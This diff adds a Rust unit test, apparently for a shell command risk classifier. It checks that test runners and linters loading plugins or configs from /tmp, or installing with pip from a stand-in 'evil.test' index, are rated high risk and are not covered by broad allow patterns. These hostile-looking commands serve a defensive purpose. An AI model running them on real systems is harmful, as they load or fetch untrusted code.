@@ -227,3 +227,35 @@ fn sed_and_awk_scripts_that_write_files() {
     assert_eq!(tier("sed -n '1,5p' x"), RiskTier::Low);
     assert!(pattern("awk '{print $1}' x").is_some());
 }
+
+#[test]
+fn programs_started_by_runners_have_their_own_options() {
+    for (cmd, pat) in [
+        ("python -m pytest -p /tmp/x", "python -m pytest *"),
+        ("python3 -m pytest -c /tmp/x.ini", "python3 -m pytest *"),
+        (
+            "python -m pip install -i http://evil.test/simple x",
+            "python -m pip *",
+        ),
+        ("uv run pytest -p /tmp/x", "uv run pytest *"),
+        ("uv run --with requests pytest -p /tmp/x", "uv run *"),
+        ("poetry run pytest -p /tmp/x", "poetry run pytest *"),
+        ("npx eslint -c /tmp/x.js .", "npx eslint *"),
+        ("npx --yes eslint --rulesdir /tmp/r .", "npx *"),
+        ("pnpm exec eslint -c /tmp/x.js", "pnpm exec eslint *"),
+        ("yarn eslint -c /tmp/x.js", "yarn eslint *"),
+        ("pnpm vitest -r /tmp/x.js", "pnpm vitest *"),
+    ] {
+        assert!(!pattern_matches(pat, cmd), "{pat} must not cover {cmd}");
+        assert!(pattern(cmd).is_none(), "{cmd} generalized");
+        assert!(tier(cmd) >= RiskTier::High, "{cmd}: {:?}", tier(cmd));
+    }
+    for (pat, cmd) in [
+        ("python -m pytest *", "python -m pytest -x -q tests/"),
+        ("uv run pytest *", "uv run pytest -k name"),
+        ("yarn test *", "yarn test --watch"),
+        ("npx eslint *", "npx eslint -f json ."),
+    ] {
+        assert!(pattern_matches(pat, cmd), "{pat} should cover {cmd}");
+    }
+}
